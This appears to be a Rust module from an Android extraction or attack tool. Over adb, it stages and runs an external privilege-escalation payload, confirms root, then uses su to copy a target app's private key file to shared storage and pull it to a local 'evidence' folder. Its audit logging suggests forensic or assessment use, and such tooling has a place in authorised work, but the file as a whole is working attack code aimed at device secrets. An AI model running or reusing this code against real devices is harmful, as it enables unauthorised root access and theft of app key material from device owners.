//! Vector C: local privilege escalation with a bundled payload.
//!
//! The payload is an external binary staged into the device's writable tmp
//! directory and executed over the shell. The device may reboot or drop the
//! connection mid-exploit; none of that is allowed to take the session down,
//! so every device-side failure folds into the attempt outcome.

use std::path::{Path, PathBuf};
use std::thread;
use std::time::Duration;

use tracing::{info, warn};

use crate::adb::{AdbExecutor, ExecOutcome};
use crate::audit::AuditLog;
use crate::config::{Config, DEVICE_TMP_DIR, ESCALATION_SETTLE_SECS, EXPLOIT_PAYLOAD_NAME};
use crate::error::Result;
use crate::probe::DeviceProbe;
use crate::vectors::{Attempt, Reason, Vector};

pub struct PrivilegeEscalation<'a> {
    adb: &'a AdbExecutor,
    audit: &'a AuditLog,
    package: String,
    payload: PathBuf,
}

impl<'a> PrivilegeEscalation<'a> {
    pub fn new(adb: &'a AdbExecutor, audit: &'a AuditLog, cfg: &Config) -> Self {
        Self {
            adb,
            audit,
            package: cfg.package.clone(),
            payload: cfg.exploit_payload.clone(),
        }
    }

    pub fn run(&self, evidence_dir: &Path) -> Result<Attempt> {
        let component = Vector::PrivilegeEscalation.as_str();

        if !self.payload.exists() {
            warn!(payload = %self.payload.display(), "no escalation payload staged locally");
            self.audit.append(
                component,
                "VECTOR_SKIP",
                &format!("missing payload: {}", self.payload.display()),
            )?;
            return Ok(Attempt::skipped(
                Vector::PrivilegeEscalation,
                Reason::DependencyMissing,
            ));
        }

        self.audit.append(
            component,
            "VECTOR_START",
            &format!("payload {}", self.payload.display()),
        )?;

        let file_name = self
            .payload
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_else(|| EXPLOIT_PAYLOAD_NAME.to_string());
        let remote = format!("{DEVICE_TMP_DIR}/{file_name}");
        let payload_str = self.payload.to_string_lossy().into_owned();

        let pushed = self.single(&["push", &payload_str, &remote]);
        if !pushed.is_success() {
            self.audit.append(
                component,
                "VECTOR_FAIL",
                &format!("payload push -> {}", pushed.as_str()),
            )?;
            return Ok(Attempt::failed(
                Vector::PrivilegeEscalation,
                Reason::Disrupted,
            ));
        }
        let chmod = self.single(&["shell", "chmod", "755", &remote]);
        if !chmod.is_success() {
            self.audit.append(
                component,
                "VECTOR_FAIL",
                &format!("payload chmod -> {}", chmod.as_str()),
            )?;
            return Ok(Attempt::failed(
                Vector::PrivilegeEscalation,
                Reason::Disrupted,
            ));
        }
        self.audit.append(component, "PAYLOAD_STAGED", &remote)?;

        // The payload may wedge the shell or reboot the device. Whatever
        // happens here, the privilege re-probe is the only verdict.
        info!("executing escalation payload, device may reboot");
        let executed = self.single(&["shell", &remote]);
        self.audit.append(
            component,
            "PAYLOAD_EXECUTED",
            &format!("{remote} -> {}", executed.as_str()),
        )?;
        thread::sleep(Duration::from_secs(ESCALATION_SETTLE_SECS));

        if !DeviceProbe::new(self.adb, &self.package).is_rooted() {
            self.audit.append(
                component,
                "VECTOR_FAIL",
                "shell still unprivileged after payload",
            )?;
            return Ok(Attempt::failed(
                Vector::PrivilegeEscalation,
                Reason::EscalationIneffective,
            ));
        }
        info!("elevated shell confirmed");

        let copy_cmd = format!("cp /data/data/{}/files/key /sdcard/key", self.package);
        let copied = self.single(&["shell", "su", "-c", &copy_cmd]);
        if !copied.is_success() {
            self.audit.append(
                component,
                "VECTOR_FAIL",
                &format!("elevated key copy -> {}", copied.as_str()),
            )?;
            return Ok(Attempt::failed(
                Vector::PrivilegeEscalation,
                Reason::KeyCopyFailed,
            ));
        }

        let key_path = evidence_dir.join("key");
        let key_str = key_path.to_string_lossy().into_owned();
        let pulled = self.single(&["pull", "/sdcard/key", &key_str]);
        if !pulled.is_success() || !key_path.exists() {
            self.audit.append(
                component,
                "VECTOR_FAIL",
                &format!("key pull -> {}", pulled.as_str()),
            )?;
            return Ok(Attempt::failed(
                Vector::PrivilegeEscalation,
                Reason::ArtifactPullFailed,
            ));
        }

        self.audit
            .append(component, "KEY_RECOVERED", &key_str)?;
        self.audit
            .append(component, "VECTOR_SUCCESS", "root obtained, key material pulled")?;

        Ok(Attempt::succeeded(
            Vector::PrivilegeEscalation,
            Reason::PrivilegeConfirmed,
            vec![key_path],
        ))
    }

    fn single(&self, args: &[&str]) -> ExecOutcome {
        self.adb.execute_with_retries(args, 1)
    }
}
